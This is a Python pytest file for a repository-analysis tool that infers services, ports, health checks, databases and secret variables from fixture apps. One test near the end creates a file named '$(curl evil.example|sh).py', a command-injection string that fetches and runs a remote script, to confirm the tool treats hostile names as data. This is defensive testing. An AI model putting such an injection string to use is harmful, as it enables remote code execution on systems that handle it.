"""The key facts of each fixture app, stated plainly so a regression reads as a sentence.

The snapshots hold everything; these assertions name what a user would check first:
framework, port, health path, role, the databases needed and which variables are secrets.
"""

from __future__ import annotations

from functools import cache
from pathlib import Path

import pytest

from hydron.analysis import Analysis, analyze
from hydron.analysis.models import Service

FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "apps"


@cache
def analysed(app: str) -> Analysis:
    return analyze(FIXTURES / app)


def service(app: str, name: str) -> Service:
    services = {s.name: s for s in analysed(app).services}
    assert name in services, f"{app}: no service {name}; found {sorted(services)}"
    return services[name]


# app, service, role, language, framework, package manager, port, health path
SERVICES = [
    ("node-express-api", "orders-api", "web", ("node", "20.11.1"), "Express", "npm", 3000, "/healthz"),
    ("node-nestjs", "billing-service", "web", ("node", ">=20.10"), "NestJS", "pnpm", 3000, "/health"),
    ("node-nextjs", "notes-web", "web", ("node", "20"), "Next.js", "yarn", 3000, "/api/health"),
    ("node-nuxt", "docs-portal", "web", ("node", None), "Nuxt", "npm", 3000, "/api/health"),
    ("node-remix", "shop-storefront", "web", ("node", ">=18.0.0"), "Remix", "npm", 3000, "/healthz"),
    ("node-own-dockerfile", "webhook-relay", "web", ("node", "20"), "Express", "npm", 8080, "/ready"),
    ("bun-hono-api", "links-api", "web", ("bun", "1.1.4"), "Hono", "bun", 8787, "/health"),
    ("vite-react-static", "status-dashboard", "static", ("bun", None), "Vite + React", "bun", None, None),
    ("vite-vue-static", "marketing-site", "static", ("node", None), "Vite + Vue", "pnpm", None, None),
    ("python-django", "mysite", "web", ("python", "3.12.2"), "Django", "poetry", 8000, "/healthz/"),
    ("python-fastapi-uv", "assistant-api", "web", ("python", ">=3.12"), "FastAPI", "uv", 8000, "/healthz"),
    ("python-flask-procfile", "python-flask-procfile", "web", ("python", "3.11.9"), "Flask", "pip", 5000, "/health"),
    ("python-flask-procfile", "python-flask-procfile-worker", "worker", ("python", "3.11.9"), "Flask", "pip", None,
     None),
    ("python-flask-procfile", "python-flask-procfile-release", "job", ("python", "3.11.9"), "Flask", "pip", None,
     None),
    ("python-celery-worker", "python-celery-worker", "worker", ("python", "3.11"), "Celery", "pipenv", None, None),
    ("python-monorepo", "search-api", "web", ("python", ">=3.11"), "FastAPI", "pip", 8000, "/api/health"),
    ("python-monorepo", "indexer", "worker", ("python", None), "Dramatiq", "pip", None, None),
    ("ruby-rails", "ruby-rails", "web", ("ruby", "3.3.0"), "Rails", "bundler", 3000, "/up"),
    ("ruby-rails", "ruby-rails-worker", "worker", ("ruby", "3.3.0"), "Rails", "bundler", None, None),
    ("ruby-rails", "ruby-rails-release", "job", ("ruby", "3.3.0"), "Rails", "bundler", None, None),
    ("ruby-sinatra", "ruby-sinatra", "web", ("ruby", "3.2.2"), "Sinatra", "bundler", 4567, "/health"),
    ("java-spring-maven", "catalog-service", "web", ("java", "17"), "Spring Boot", "maven", 8081, "/actuator/health"),
    ("java-spring-gradle", "event-gateway", "web", ("kotlin", "21"), "Spring Boot", "gradle", 9090, "/healthz"),
    ("java-quarkus", "inventory", "web", ("java", "21"), "Quarkus", "maven", 8080, "/q/health"),
    ("go-gin-api", "ledger", "web", ("go", "1.22"), "Gin", "go", 8080, "/healthz"),
    ("go-echo", "shortener", "web", ("go", "1.21.9"), "Echo", "go", 1323, "/health"),
    ("go-cmd-multi", "api", "web", ("go", "1.22"), "Fiber", "go", 3000, "/livez"),
    ("go-cmd-multi", "worker", "worker", ("go", "1.22"), None, "go", None, None),
    ("php-laravel", "helpdesk", "web", ("php", "^8.2"), "Laravel", "composer", 8000, "/up"),
    ("php-symfony", "booking", "web", ("php", ">=8.2"), "Symfony", "composer", 8000, "/health"),
    ("rust-axum", "inventory-api", "web", ("rust", "1.75"), "Axum", "cargo", 3000, "/health"),
    ("rust-actix", "ratelimiter", "web", ("rust", "1.77.2"), "Actix Web", "cargo", 8080, "/healthz"),
    ("dotnet-aspnet", "orders-api", "web", ("dotnet", "8.0"), "ASP.NET Core", "dotnet", 8080, "/healthz"),
    ("elixir-phoenix", "chat", "web", ("elixir", "1.16.2-otp-26"), "Phoenix", "mix", 4000, "/health"),
    ("static-site", "static-site", "static", None, "Static HTML", None, None, None),
    ("compose-fullstack", "api", "web", ("node", "20"), "Express", "npm", 4000, "/api/health"),
    ("compose-fullstack", "frontend", "static", ("node", "20"), "Vite + React", "npm", 80, None),  # nginx serves the build
    ("compose-fullstack", "worker", "worker", ("python", "3.12"), "Celery", "pip", None, None),
    ("compose-fullstack", "migrate", "job", ("node", "20"), "Express", "npm", None, None),
    ("turborepo-pnpm", "web", "web", ("node", "20.12.2"), "Next.js", "pnpm", 3000, None),
    ("turborepo-pnpm", "api", "web", ("node", "20.12.2"), "Fastify", "pnpm", 4000, "/health"),
    ("npm-workspaces", "server", "web", ("node", "^20.11.0"), "Fastify", "npm", 8080, "/healthz"),
    ("npm-workspaces", "client", "static", ("node", "^20.11.0"), "Vite + Preact", "npm", None, None),
    ("nx-monorepo", "api", "web", ("node", "20"), "NestJS", "npm", 3333, None),
    ("nx-monorepo", "dashboard", "static", ("node", "20"), "Vite", "npm", None, None),
    ("env-many-ways", "notifier", "worker", ("node", None), None, "npm", None, None),
    ("several-dockerfiles", "gateway", "web", None, None, None, 80, "/healthz"),
    ("several-dockerfiles", "thumbnailer", "web", ("go", "1.22"), None, "go", 7000, "/healthz"),
    ("several-dockerfiles", "reports", "web", ("java", "21"), None, None, 9000, None),
]


@pytest.mark.parametrize("app, name, role, language, framework, manager, port, health", SERVICES)
def test_service_facts(app, name, role, language, framework, manager, port, health) -> None:
    found = service(app, name)
    assert found.role.value == role
    assert ((found.language.name, found.language.version) if found.language else None) == language
    assert (found.framework.name if found.framework else None) == framework
    assert (found.package_manager.name if found.package_manager else None) == manager
    assert (found.port.value if found.port else None) == port
    assert (found.health_check.path if found.health_check else None) == health


def test_every_fixture_service_is_covered_by_a_fact_row() -> None:
    covered = {(app, name) for app, name, *_ in SERVICES}
    services = {(p.name, s.name) for p in FIXTURES.iterdir() if p.is_dir() for s in analysed(p.name).services}
    assert services == covered


# app -> the kinds of databases, caches and brokers it needs
DATABASES = {
    "node-express-api": {"postgres", "redis"},
    "node-nestjs": {"postgres"},
    "node-nextjs": {"postgres"},
    "bun-hono-api": {"mongodb"},
    "python-django": {"postgres"},
    "python-fastapi-uv": {"postgres", "redis"},
    "python-flask-procfile": {"postgres", "redis"},
    "python-celery-worker": {"rabbitmq"},
    "python-monorepo": {"elasticsearch", "rabbitmq"},
    "ruby-rails": {"postgres", "redis"},
    "ruby-sinatra": {"mongodb"},
    "java-spring-maven": {"postgres", "redis"},
    "java-spring-gradle": {"kafka", "mongodb"},
    "java-quarkus": {"mysql"},
    "go-gin-api": {"postgres"},
    "go-echo": {"redis"},
    "go-cmd-multi": {"kafka"},
    "php-laravel": {"mysql", "redis"},
    "php-symfony": {"postgres"},
    "rust-axum": {"postgres"},
    "rust-actix": {"redis"},
    "dotnet-aspnet": {"postgres"},
    "elixir-phoenix": {"postgres", "redis"},
    "compose-fullstack": {"postgres", "redis"},
    "turborepo-pnpm": {"redis"},
    "npm-workspaces": {"mysql"},
    "nx-monorepo": {"mongodb"},
    "env-many-ways": {"rabbitmq"},
    "static-site": set(),
    "vite-react-static": set(),
    "nothing-deployable": set(),
}


@pytest.mark.parametrize("app, kinds", sorted(DATABASES.items()))
def test_databases_needed(app: str, kinds: set[str]) -> None:
    assert {d.kind for d in analysed(app).databases} == kinds


# app, service, variables that must be flagged secret, variables that must not be
SECRETS = [
    ("node-express-api", "orders-api", {"DATABASE_URL", "STRIPE_SECRET_KEY", "SENTRY_DSN", "REDIS_URL"},
     {"LOG_LEVEL", "PORT"}),
    ("python-django", "mysite", {"DJANGO_SECRET_KEY", "POSTGRES_PASSWORD", "SENTRY_DSN"},
     {"DJANGO_DEBUG", "POSTGRES_HOST"}),
    ("php-laravel", "helpdesk", {"APP_KEY", "DB_PASSWORD", "STRIPE_SECRET", "REDIS_PASSWORD"},
     {"DB_CONNECTION", "APP_NAME"}),
    ("ruby-rails", "ruby-rails", {"SECRET_KEY_BASE", "DATABASE_URL"}, {"RAILS_MAX_THREADS"}),
    ("env-many-ways", "notifier", {"AMQP_URL", "SMTP_PASSWORD", "TWILIO_AUTH_TOKEN"}, {"SMTP_HOST", "DRY_RUN"}),
    ("dotnet-aspnet", "orders-api", {"ConnectionStrings__Orders", "SENTRY_DSN"}, set()),
    ("elixir-phoenix", "chat", {"SECRET_KEY_BASE", "DATABASE_URL"}, {"PHX_HOST", "POOL_SIZE"}),
    ("compose-fullstack", "api", {"JWT_SECRET", "DATABASE_URL"}, {"PORT"}),
]


@pytest.mark.parametrize("app, name, secret, plain", SECRETS)
def test_secrets_are_flagged_and_never_get_a_default(app, name, secret, plain) -> None:
    env = {v.name: v for v in service(app, name).env}
    assert secret <= set(env) and plain <= set(env)
    assert all(env[n].secret and env[n].default is None for n in secret)
    assert not any(env[n].secret for n in plain)


def test_values_from_a_committed_env_file_never_reach_the_analysis() -> None:
    text = analysed("env-many-ways").model_dump_json()
    assert "LOCAL_ONLY_FLAG" in text  # the name is useful
    assert "must-never-appear" not in text and "SuperSecretBrokerPassw0rd" not in text


def test_example_defaults_are_kept_when_they_are_not_secret() -> None:
    env = {v.name: v for v in service("env-many-ways", "notifier").env}
    assert env["TWILIO_FROM"].default == "+15550001111"
    assert env["SMTP_PORT"].default == "587" and not env["SMTP_PORT"].required  # destructuring default
    assert env["TWILIO_AUTH_TOKEN"].required


def test_nothing_deployable_says_why() -> None:
    analysis = analysed("nothing-deployable")
    assert analysis.services == []
    assert analysis.warnings == ["Nothing deployable found: in ., package.json has no start script and no server "
                                 "or site framework."]


def test_compose_is_the_source_of_truth_for_ports_commands_and_dependencies() -> None:
    api = service("compose-fullstack", "api")
    assert api.dockerfile == "api/Dockerfile" and api.compose_service == "api"
    assert api.port.evidence[0].file == "docker-compose.yml"
    assert {(d.name, d.kind) for d in api.depends_on} == {("db", "backing"), ("cache", "backing")}
    migrate = service("compose-fullstack", "migrate")
    assert migrate.start_command.value == "npm run migrate"
    assert {d.name for d in migrate.depends_on} == {"db"}  # compose lists only db, though the code has redis
    worker = service("compose-fullstack", "worker")
    assert worker.dockerfile == "worker/Dockerfile.worker"
    assert {(d.name, d.kind) for d in worker.depends_on} == {("api", "service"), ("cache", "backing")}
    databases = {d.name: d for d in analysed("compose-fullstack").databases}
    assert (databases["db"].kind, databases["db"].version) == ("postgres", "16")
    mailhog = next(s for s in analysed("compose-fullstack").skipped_services if s.name == "mailhog")
    assert (mailhog.reason, mailhog.service.image, mailhog.service.port.value) == (
        "tool-image", "mailhog/mailhog:v1.0.1", 8025)


def test_a_dockerfile_decides_the_port_over_the_code_default() -> None:
    relay = service("node-own-dockerfile", "webhook-relay")
    assert relay.port.value == 8080 and relay.port.evidence[0].file == "Dockerfile"
    assert relay.start_command.value == "node dist/index.js"
    assert {v.name: v.default for v in relay.env}["PORT"] == "8080"
    assert analysed("node-own-dockerfile").warnings == []  # the code reads PORT, so there is no conflict


def test_sibling_services_are_linked_by_urls_and_env_names() -> None:
    gateway = service("several-dockerfiles", "gateway")
    assert {d.name for d in gateway.depends_on} == {"reports", "thumbnailer"}  # nginx proxy_pass upstreams
    web = service("turborepo-pnpm", "web")
    assert [(d.name, d.kind, d.confidence) for d in web.depends_on] == [("api", "service", "medium")]


def test_workspace_libraries_contribute_their_env_to_the_services_using_them() -> None:
    api = service("turborepo-pnpm", "api")
    assert "DATABASE_URL" in {v.name for v in api.env}  # read in packages/db, imported by the api
    assert [s.name for s in analysed("turborepo-pnpm").services] == ["api", "web"]  # packages/* are libraries


@pytest.mark.parametrize("app, tools", [
    ("turborepo-pnpm", ["pnpm-workspaces", "turborepo"]),
    ("npm-workspaces", ["npm-workspaces"]),
    ("nx-monorepo", ["nx"]),
    ("compose-fullstack", ["compose"]),
    ("python-flask-procfile", ["procfile"]),
    ("ruby-rails", ["procfile"]),
    ("python-monorepo", ["multi"]),
    ("several-dockerfiles", ["multi"]),
    ("node-express-api", None),
])
def test_monorepo_layout(app: str, tools) -> None:
    monorepo = analysed(app).monorepo
    assert (monorepo.tools if monorepo else None) == tools


def test_lockfiles_select_commands_that_respect_them() -> None:
    commands = {
        app: service(app, name).install_command.value
        for app, name in [("node-express-api", "orders-api"), ("node-nestjs", "billing-service"),
                          ("node-nextjs", "notes-web"), ("bun-hono-api", "links-api"),
                          ("python-fastapi-uv", "assistant-api"), ("python-django", "mysite"),
                          ("python-celery-worker", "python-celery-worker"), ("rust-axum", "inventory-api")]
    }
    assert commands == {
        "node-express-api": "npm ci",
        "node-nestjs": "pnpm install --frozen-lockfile",
        "node-nextjs": "yarn install --immutable",
        "bun-hono-api": "bun install --frozen-lockfile",
        "python-fastapi-uv": "uv sync --frozen --no-dev",
        "python-django": "poetry install --no-interaction --no-root --only main",
        "python-celery-worker": "pipenv install --system --ignore-pipfile",
        "rust-axum": "cargo fetch --locked",
    }


def test_every_fact_cites_a_file_of_the_fixture() -> None:
    for app in sorted(p.name for p in FIXTURES.iterdir() if p.is_dir()):
        document = analysed(app).model_dump()
        for evidence in _evidence(document):
            assert (FIXTURES / app / evidence["file"]).exists(), (app, evidence)


def _evidence(node):
    if isinstance(node, dict):
        if set(node) == {"file", "line", "detail"}:
            yield node
        for value in node.values():
            yield from _evidence(value)
    elif isinstance(node, list):
        for value in node:
            yield from _evidence(value)


def test_apps_under_test_directories_are_not_services(tmp_path: Path) -> None:
    (tmp_path / "tests" / "fixtures" / "demo").mkdir(parents=True)
    (tmp_path / "tests" / "fixtures" / "demo" / "package.json").write_text(
        '{"name": "demo", "scripts": {"start": "node index.js"}, "dependencies": {"express": "^4"}}')
    (tmp_path / "app.py").write_text("from flask import Flask\napp = Flask(__name__)\n")
    (tmp_path / "requirements.txt").write_text("flask\n")

    assert [s.framework.name for s in analyze(tmp_path).services] == ["Flask"]


def test_a_workspace_root_with_its_own_start_script_is_the_app(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text('{"name": "bot", "private": true, "workspaces": ["packages/*"],'
                                           ' "scripts": {"start": "node index.js"}, "dependencies": {"lib": "*"}}')
    (tmp_path / "index.js").write_text("require('lib')();\n")
    (tmp_path / "packages" / "lib").mkdir(parents=True)
    (tmp_path / "packages" / "lib" / "package.json").write_text('{"name": "lib", "main": "index.js"}')
    (tmp_path / "packages" / "lib" / "index.js").write_text("module.exports = () => 1;\n")

    analysis = analyze(tmp_path)

    assert [(s.path, s.role.value) for s in analysis.services] == [(".", "worker")]  # lib is imported, not run


def test_a_script_without_a_framework_runs_with_low_confidence(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("requests\n")
    (tmp_path / "main.py").write_text("import requests\nprint(requests.get('https://example.com').status_code)\n")

    [found] = analyze(tmp_path).services

    assert (found.start_command.value, found.start_command.confidence, found.role.value) == (
        "python main.py", "low", "worker")


def test_start_candidates_are_what_the_repository_states_for_the_service_then_conventions(tmp_path) -> None:
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "www").write_text("#!/usr/bin/env node\nrequire('../server')\n")
    (tmp_path / "server.js").write_text("require('express')().listen(process.env.PORT || 3000)\n")
    (tmp_path / "package.json").write_text(
        '{"name": "shop", "dependencies": {"express": "4"}, "scripts": {"start": "node server.js", '
        '"start:prod": "node server.js --prod", "dev": "nodemon server.js", "serve": "vite preview", '
        '"db:reset": "node reset.js"}}')
    found = analyze(tmp_path).services[0]
    assert [c.value for c in found.start_candidates] == [
        "npm run start:prod", "node server.js --prod", "npm run start", "node server.js", "node bin/www"]
    assert found.files == ["server.js", "bin/www"]


def test_file_names_are_listed_as_they_are_and_bounded(tmp_path) -> None:
    (tmp_path / "requirements.txt").write_text("requests\n")
    (tmp_path / "main.py").write_text("if __name__ == '__main__':\n    print('hi')\n")
    (tmp_path / "$(curl evil.example|sh).py").write_text("")
    for i in range(40):
        (tmp_path / f"m{i:02}.py").write_text("")
    (found,) = analyze(tmp_path).services
    files = found.files
    assert len(files) == 32 and files[0] == "$(curl evil.example|sh).py"
    assert "$(curl evil.example|sh).py" in files, "a hostile name is data, shown as it is"
